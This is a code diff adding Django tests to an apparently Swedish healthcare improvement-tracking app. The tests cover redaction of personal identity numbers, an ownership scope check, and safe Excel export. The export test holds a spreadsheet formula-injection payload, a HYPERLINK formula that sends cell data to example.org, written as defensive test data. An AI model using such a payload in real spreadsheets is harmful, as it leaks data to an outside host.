@@ -210,3 +210,68 @@ def test_cycle_summary_partial_for_the_dashboard(users, org, measure):
     services.add_action(analysis, "B", "B", TODAY + timedelta(days=1), actor=Actor(users.kir_manager))
     html = re.sub(r"[ \t\r\n]+", " ", tpl.render(Context({"measure": measure, "unit": org.kir, "period": q1})))
     assert "Nattens rutiner brister." in html and "2 öppna åtgärder" in html and "1 försenad<" in html
+
+
+PNR = "19121212-1212"
+
+
+def test_an_identity_number_typed_into_the_forms_is_removed_with_a_notice(client, users, org, measure):
+    from lagesbild.core.personal import REPLACEMENT
+    from lagesbild.improvement.services import IDENTITY_NUMBER_NOTICE
+
+    client.force_login(users.kir_manager)
+    r = client.post(cycle_url(measure, suffix="analys/"), {"text": f"Patient {PNR} föll."}, follow=True)
+    assert r.status_code == 200
+    page = text(r)
+    assert IDENTITY_NUMBER_NOTICE in page and PNR not in page
+    assert Analysis.objects.get().text == f"Patient {REPLACEMENT} föll."
+    # The next page view no longer shows the notice; text without a number gets none.
+    assert IDENTITY_NUMBER_NOTICE not in text(client.get(cycle_url(measure)))
+    r = client.post(cycle_url(measure, suffix="analys/"), {"text": "Ingen patient nämnd, 2025-03-01."}, follow=True)
+    assert IDENTITY_NUMBER_NOTICE not in text(r)
+
+    # With htmx the notice is in the changed part of the page.
+    r = client.post(cycle_url(measure, suffix="atgarder/"), {
+        "a-title": "Ring 121212-1212", "a-owner_name": "Chef", "a-due_date": TODAY.isoformat()}, **HX)
+    assert r.status_code == 200 and text(r).count(IDENTITY_NUMBER_NOTICE) == 1
+    action = Action.objects.get()
+    assert action.title == f"Ring {REPLACEMENT}"
+    r = client.post(reverse("improvement:follow_up_add", args=[action.pk]), {
+        f"f{action.pk}-date": "2025-10-01", f"f{action.pk}-effect": "ja", f"f{action.pk}-comment": f"Se {PNR}"}, **HX)
+    assert r.status_code == 200 and IDENTITY_NUMBER_NOTICE in text(r)
+    assert FollowUp.objects.get().comment == f"Se {REPLACEMENT}"
+
+
+def test_the_action_form_refuses_an_owner_outside_the_scope(client, users, org, measure):
+    client.force_login(users.kir_manager)
+    client.post(cycle_url(measure, suffix="analys/"), {"text": "Analys."})
+    r = client.post(cycle_url(measure, suffix="atgarder/"), {
+        "a-title": "Rond", "a-owner_name": "Chef", "a-due_date": TODAY.isoformat(),
+        "a-owner": str(users.med_manager.pk)})
+    assert r.status_code == 422 and not Action.objects.exists()
+    owner_field = re.search(r'<select name="a-owner".*?</div>', r.content.decode(), re.S).group(0)
+    assert '<p class="error">' in owner_field
+    assert f'value="{users.med_manager.pk}"' not in owner_field
+
+
+def test_overdue_export_writes_user_text_as_text(client, users, org, measure):
+    import io
+
+    from openpyxl import load_workbook
+
+    formula = '=HYPERLINK("http://example.org/?m="&A1,"Öppna")'
+    analysis = services.record_analysis(measure, org.kir, Period.parse("2025-Q1"), "A", actor=Actor(users.kir_manager))
+    services.add_action(analysis, formula, "+Chef", TODAY - timedelta(days=3), actor=Actor(users.kir_manager))
+    client.force_login(users.kir_manager)
+    page = text(client.get(reverse("improvement:overdue")))
+    r = client.get(reverse("improvement:overdue"), {"format": "xlsx"})
+    assert r.status_code == 200
+    ws = load_workbook(io.BytesIO(r.content)).active
+    header = next(i for i, row in enumerate(ws.iter_rows(values_only=True), start=1) if row[0] == "Åtgärd")
+    assert [c.value for c in ws[header]] == ["Åtgärd", "Enhet", "Mått", "Period", "Ansvarig", "Klar senast",
+                                             "Dagar sen", "Status"]
+    cells = ws[header + 1]
+    assert [(c.value, c.data_type) for c in (cells[0], cells[4])] == [(formula, "s"), ("+Chef", "s")]
+    assert [cells[1].value, cells[3].value, cells[6].value] == ["Kirurgkliniken", "2025 kv 1", 3]
+    # The page shows the same row.
+    assert "Kirurgkliniken" in page and "2025 kv 1" in page and '<td class="num">3</td>' in page
